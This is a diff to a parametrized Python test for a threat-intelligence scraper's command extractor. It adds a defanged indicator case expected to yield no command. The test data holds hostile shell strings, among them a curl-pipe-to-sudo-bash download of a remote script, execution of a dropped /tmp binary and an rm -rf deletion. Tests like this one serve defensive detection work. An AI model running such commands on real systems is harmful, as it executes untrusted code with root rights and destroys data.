@@ -20,6 +20,7 @@ from ctiscraper.enrich.observables import find_observables
         ("chmod +x /tmp/a && /tmp/a -d", ["chmod +x /tmp/a && /tmp/a -d"]),
         ("rm -rf /tmp/a /tmp/b > /dev/null", ["rm -rf /tmp/a /tmp/b > /dev/null"]),
         ("curl http://x.com/a.sh | sudo bash", ["curl http://x.com/a.sh | sudo bash"]),
+        ("seen at bad[.]net user x /add", []),
     ],
 )
 def test_a_command_ends_with_its_cell_and_not_with_its_pipe(text: str, commands: list[str]) -> None:
